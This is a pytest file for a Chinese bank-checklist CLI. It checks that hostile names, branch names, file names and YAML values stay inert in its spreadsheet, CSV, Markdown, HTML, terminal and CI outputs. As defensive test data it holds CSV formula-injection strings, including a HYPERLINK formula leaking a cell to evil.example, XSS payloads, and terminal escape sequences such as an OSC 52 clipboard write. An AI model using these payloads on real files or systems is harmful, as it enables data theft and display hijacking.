"""Hostile text in what people read: names, notes, branch names, file names and YAML values
never run as content — no live formula in a spreadsheet or csv, no link, script or tag in
Markdown or HTML, no escape sequence on a terminal or in a CI log, no malformed XML.

Every case is generated here in tmp_path and run through the real CLI.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Sequence
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest

from cli_support import REPO, RunCli
from svccheck.model import Library
from svccheck.safetext import csv_cell, csv_read, md, sheet_text, visible

# Names as a hostile roster or sheet carries them.
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
)
MARKUP_NAMES = (
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "[点我](javascript:alert(1))",
)
ESCAPE_NAMES = (
    "\x1b]0;pwned\x07王五",  # window title
    "\x1b[2J赵六",  # clear screen
    "\x1b]52;c;ZWNobyBoaQ==\x07钱七",  # OSC 52: write the clipboard
)
NAMES = FORMULA_NAMES + MARKUP_NAMES + ESCAPE_NAMES
TELLER = "综合柜员"
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ACTIVE_HTML = ("<script", "<svg onload", 'href="javascript')


def _csv_text(rows: Sequence[Sequence[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def write_roster(path: Path, names: Sequence[str]) -> Path:
    rows = [["姓名", "工号", "岗位"]]
    rows += [[name, f"{n:03d}", TELLER] for n, name in enumerate(names, 1)]
    path.write_text(_csv_text(rows), encoding="utf-8")
    return path


def write_morning(
    path: Path, branch: str, days: Sequence[dt.date], names: Sequence[str], items: Sequence[str]
) -> Path:
    """A filled wide morning sheet: everybody fails the first item every day."""
    rows = [["日期", "网点", "姓名", "岗位", *items]]
    for day in days:
        for name in names:
            rows.append([day.isoformat(), branch, name, TELLER, "×", *["√"] * (len(items) - 1)])
    path.write_text(_csv_text(rows), encoding="utf-8")
    return path


def assert_no_raw_controls(*texts: str) -> None:
    for text in texts:
        found = RAW_CONTROL.search(text)
        assert found is None, f"raw {found.group()!r} in {text[:300]!r}"


def assert_inert_markup(text: str, *, markdown: bool = True) -> None:
    lowered = text.lower()
    for active in ACTIVE_HTML:
        assert active not in lowered, f"{active!r} in output"
    if not markdown:
        return
    # no Markdown link can form: a "]" before "(" is escaped
    assert re.search(r"(?<!\\)\]\(javascript", lowered) is None


@pytest.fixture
def items(library: Library) -> list[str]:
    return list(library.checklists["morning-teller"].items)


# ------------------------------------------------------------------------------ the neutraliser


@pytest.mark.parametrize(
    "text", [*NAMES, "'=x", "''=x", "'''+1", "'plain", "''", "\t=1", "\r=1", "", "张三"]
)
def test_csv_cell_round_trips_through_the_reader_rule(text: str) -> None:
    written = csv_cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_read(written) == sheet_text(text)  # controls an xlsx cannot hold are shown


def test_plain_text_takes_the_fast_path() -> None:
    plain = "东环支行 张三 TLR-01"
    assert visible(plain) is plain
    assert csv_cell(plain) is plain


# ------------------------------------------------------------------------------------- forms


def test_xlsx_form_writes_roster_names_as_text_never_formulas(
    run_cli: RunCli, tmp_path: Path
) -> None:
    # a roster cell holding a control character is refused, located, and shown visibly
    bad = run_cli("form", "morning-teller", "--roster", write_roster(tmp_path / "bad.csv", NAMES))
    assert bad.code == 2 and "holds a control character" in bad.stderr
    assert_no_raw_controls(bad.stdout, bad.stderr)
    roster = write_roster(tmp_path / "staff.csv", FORMULA_NAMES + MARKUP_NAMES)
    out = tmp_path / "form.xlsx"
    result = run_cli(
        "form", "morning-teller", "--branch", "=1+1", "--date", "2026-10-08",
        "--roster", roster, "-o", out,
    )  # fmt: skip
    assert result.code == 0, result
    assert_no_raw_controls(result.stdout, result.stderr)
    book = openpyxl.load_workbook(out)
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    formulas = [c for c in cells if c.data_type == "f"]
    # the one formula svccheck writes is its own deduction total (扣分合计), built of IF()s
    assert formulas and all(str(c.value).startswith("=IF(") for c in formulas)
    written = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    for name in FORMULA_NAMES + MARKUP_NAMES:
        assert written.get(name) == "s", name
    assert written.get("=1+1") == "s"  # the branch in the block
    on_duty = book.worksheets[0].parent.worksheets
    assert all(c.data_type != "f" for ws in on_duty[1:] for row in ws.iter_rows() for c in row)


def test_csv_form_neutralises_and_reads_back_the_names(
    run_cli: RunCli, tmp_path: Path, items: list[str]
) -> None:
    roster = write_roster(tmp_path / "staff.csv", FORMULA_NAMES + MARKUP_NAMES)
    out = tmp_path / "form.csv"
    result = run_cli(
        "form", "morning-teller", "--branch", "东环支行", "--date", "2026-10-08",
        "--roster", roster, "-o", out,
    )  # fmt: skip
    assert result.code == 0, result
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert "svccheck form morning-teller" in rows[0][0]  # the form's own first line
    assert rows[1] == ["Branch: 东环支行", "Date: 2026-10-08"]  # the block line, then the header
    names = [row[2] for row in rows[3:] if any(row)]  # not the 3 open rows after the roster
    assert names == [csv_cell(n) for n in FORMULA_NAMES + MARKUP_NAMES]
    assert all(name.startswith("'") for name in names[: len(FORMULA_NAMES)])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # filled in and scored, the names come back as they were on the roster
    for row in rows[3:]:
        if any(row):
            row[5] = "×"
    out.write_text(_csv_text(rows), encoding="utf-8")
    scored = run_cli("score", out, "--by", "subject", "--format", "json")
    assert scored.code == 0, scored
    subjects = {s["subject"] for s in json.loads(scored.stdout)["subjects"]}
    assert subjects == set(FORMULA_NAMES + MARKUP_NAMES)


def test_md_form_escapes_markup_and_controls(run_cli: RunCli, tmp_path: Path) -> None:
    roster = write_roster(tmp_path / "staff.csv", FORMULA_NAMES + MARKUP_NAMES)
    result = run_cli(
        "form", "morning-teller", "--branch", "<b onclick=x>东环</b>", "--date", "2026-10-08",
        "--roster", roster, "--format", "md", "-o", "-",
    )  # fmt: skip
    assert result.code == 0, result
    assert_inert_markup(result.stdout)
    assert "<b onclick" not in result.stdout and "&lt;b onclick=x&gt;东环" in result.stdout
    assert_no_raw_controls(result.stdout)
    for name in MARKUP_NAMES:
        assert f"| {md(name)} |" in result.stdout


# ----------------------------------------------------------------------------------- reports


@pytest.fixture
def hostile_sheet(tmp_path: Path, items: list[str]) -> Path:
    return write_morning(tmp_path / "morning.csv", "东环支行", [dt.date(2026, 10, 8)], NAMES, items)


def test_score_outputs_are_neutralised(
    run_cli: RunCli, hostile_sheet: Path, tmp_path: Path
) -> None:
    table = run_cli("score", hostile_sheet, "--by", "subject")
    assert table.code == 0, table
    assert_no_raw_controls(table.stdout, table.stderr)
    # a name holding an escape sequence is refused by cell, its escape visible
    assert "holds a control character: '\\x1b[2J赵六'" in table.stdout + table.stderr
    as_csv = run_cli("score", hostile_sheet, "--by", "subject", "--format", "csv")
    assert as_csv.code == 0, as_csv
    subjects = [row[1] for row in csv.reader(io.StringIO(as_csv.stdout))][1:]
    assert sorted(subjects) == sorted(csv_cell(n) for n in FORMULA_NAMES + MARKUP_NAMES)
    assert not any(s.startswith(("=", "+", "-", "@")) for s in subjects)
    assert_no_raw_controls(as_csv.stdout)
    for fmt in ("md", "html"):
        out = tmp_path / f"report.{fmt}"
        result = run_cli("score", hostile_sheet, "--format", fmt, "-o", out)
        assert result.code == 0, result
        text = out.read_text(encoding="utf-8")
        assert_inert_markup(text, markdown=fmt == "md")
        assert_no_raw_controls(text)
    xlsx = tmp_path / "report.xlsx"
    assert run_cli("score", hostile_sheet, "--format", "xlsx", "-o", xlsx).code == 0
    book = openpyxl.load_workbook(xlsx)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    shown = {c.value for c in cells if c.data_type == "s"}
    assert set(FORMULA_NAMES) <= shown
    assert not any(c.value in FORMULA_NAMES for c in cells if c.data_type != "s")


def test_read_and_score_show_escapes_in_rejections(
    run_cli: RunCli, tmp_path: Path, items: list[str]
) -> None:
    sheet = write_morning(tmp_path / "bad.csv", "东环支行", [dt.date(2026, 10, 8)], NAMES, items)
    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"))))
    rows[1][4] = "\x1b[2J×"  # a mark no reader accepts: rejected, the value quoted
    sheet.write_text(_csv_text(rows), encoding="utf-8")
    read = run_cli("read", sheet)
    scored = run_cli("score", sheet)
    assert read.code == 1, read  # a rejected row is a finding
    assert scored.code == 0, scored
    for result in (read, scored):
        assert_no_raw_controls(result.stdout, result.stderr)
    assert "\\x1b[2J" in read.stdout and "\\x1b[2J" in scored.stderr


def test_a_file_name_cannot_drive_the_terminal(run_cli: RunCli, tmp_path: Path) -> None:
    missing = tmp_path / "\x1b]0;pwned\x07.csv"
    result = run_cli("score", missing)
    assert result.code == 2, result
    assert_no_raw_controls(result.stdout, result.stderr)
    assert "\\x1b]0;pwned\\x07.csv" in result.stderr


def _ingest_two_months(run_cli: RunCli, tmp_path: Path, items: list[str], url: str) -> str:
    """What ingest said (the rows of names holding escape sequences refused, shown escaped)."""
    sep = [dt.date(2026, 9, d) for d in (1, 2)]
    oct_ = [dt.date(2026, 10, d) for d in (8, 9)]
    said = ""
    for label, days in (("sep", sep), ("oct", oct_)):
        sheet = write_morning(tmp_path / f"{label}.csv", "东环支行", days, NAMES, items)
        result = run_cli("ingest", sheet, "--checklist", "morning-teller", "--db", url)
        assert result.code == 0, result
        assert_no_raw_controls(result.stdout, result.stderr)
        said += result.stdout + result.stderr
    return said


def test_report_history_and_brief_markdown_are_inert(
    run_cli: RunCli, tmp_path: Path, items: list[str]
) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    said = _ingest_two_months(run_cli, tmp_path, items, url)
    assert "\\x1b]52;c;" in said  # refused by cell, the escape visible
    report = run_cli("report", "--db", url, "--period", "2026-10", "--format", "md")
    assert report.code == 0, report
    assert "History" in report.stdout
    history = report.stdout[report.stdout.index("History") :]
    assert md("<script>alert(1)</script>") in history  # the names are in the history section
    brief = run_cli("brief", "--db", url, "--date", "2026-10-12", "--format", "md")
    assert brief.code == 0, brief
    for text in (report.stdout, brief.stdout):
        assert_inert_markup(text)
        assert_no_raw_controls(text)
    plain = run_cli("brief", "--db", url, "--date", "2026-10-12")
    assert plain.code == 0, plain
    assert_no_raw_controls(plain.stdout, plain.stderr)
    assert "钱七" not in plain.stdout  # a name holding an escape sequence was never stored
    html = run_cli("report", "--db", url, "--period", "2026-10", "--format", "html")
    assert_inert_markup(html.stdout, markdown=False)
    assert_no_raw_controls(html.stdout)


# ------------------------------------------------------------------------------- validate


HOSTILE_CATEGORY = "a[/]b\x1b]0;pwned\x07\x01"


@pytest.fixture
def hostile_library(tmp_path: Path) -> Path:
    """A copy of the tests' small bank library with a category "a[/]b…" (rich markup, a
    title escape, a \\x01 XML forbids) on its first item."""
    source = REPO / "tests" / "data" / "catalog" / "valid" / "bank-library"
    root = tmp_path / "lib"
    for folder in ("standards", "checklists"):
        (root / folder).mkdir(parents=True)
        for file in (source / folder).iterdir():
            (root / folder / file.name).write_bytes(file.read_bytes())
    counter = root / "standards" / "counter.yaml"
    text = counter.read_text(encoding="utf-8")
    quoted = json.dumps(HOSTILE_CATEGORY)  # a YAML double-quoted scalar with \\u escapes
    counter.write_text(text.replace("category: appearance", f"category: {quoted}", 1), "utf-8")
    return root


def test_validate_text_prints_markup_and_patterns_as_written(
    run_cli: RunCli, hostile_library: Path
) -> None:
    result = run_cli("validate", ".", cwd=hostile_library)
    assert result.code == 1, result
    assert "Traceback" not in result.stderr
    assert "a[/]b\\x1b]0;pwned\\x07\\x01" in result.stdout
    assert "^[a-z][a-z0-9_]*$" in result.stdout  # the pattern, not "^*$"
    assert_no_raw_controls(result.stdout, result.stderr)


def test_validate_under_pre_commit_file_arguments(run_cli: RunCli, hostile_library: Path) -> None:
    result = run_cli("validate", "standards/counter.yaml", cwd=hostile_library)
    assert result.code == 1, result
    assert "a[/]b" in result.stdout and "Traceback" not in result.stderr


def test_validate_ci_formats_stay_well_formed(run_cli: RunCli, hostile_library: Path) -> None:
    github = run_cli("validate", ".", "--format", "github", cwd=hostile_library)
    assert github.code == 1, github
    assert "\x1b" not in github.stdout and "\x07" not in github.stdout
    assert all(line.startswith("::") for line in github.stdout.splitlines())
    junit = run_cli("validate", ".", "--format", "junit", cwd=hostile_library)
    assert junit.code == 1, junit
    root = ET.fromstring(junit.stdout.encode("utf-8"))  # parses: nothing XML forbids
    failures = root.findall(".//failure")
    assert failures and "a[/]b\\x1b]0;pwned\\x07\\x01" in (failures[0].text or "")


def test_sarif_has_fingerprints_and_relative_uris(
    run_cli: RunCli, hostile_library: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    runs = []
    for _ in range(2):  # an absolute path, run from outside the library
        result = run_cli("validate", hostile_library, "--format", "sarif", cwd=elsewhere)
        assert result.code == 1, result
        assert str(tmp_path) not in result.stdout and "file:" not in result.stdout
        runs.append(json.loads(result.stdout)["runs"][0])
    results = runs[0]["results"]
    assert results
    prints = [r["partialFingerprints"]["svccheck/v1"] for r in results]
    assert len(set(prints)) == len(prints)  # one per finding
    assert prints == [r["partialFingerprints"]["svccheck/v1"] for r in runs[1]["results"]]
    for r in results:
        location = r["locations"][0]["physicalLocation"]["artifactLocation"]
        assert location["uriBaseId"] == "%SRCROOT%"
        assert location["uri"] == "standards/counter.yaml"
    assert {a["location"]["uri"] for a in runs[0]["artifacts"]} >= {"standards/counter.yaml"}
    inside = run_cli("validate", ".", "--format", "sarif", cwd=hostile_library)
    same = [
        r["partialFingerprints"]["svccheck/v1"]
        for r in json.loads(inside.stdout)["runs"][0]["results"]
    ]
    assert same == prints  # the same alerts whichever way the library was named
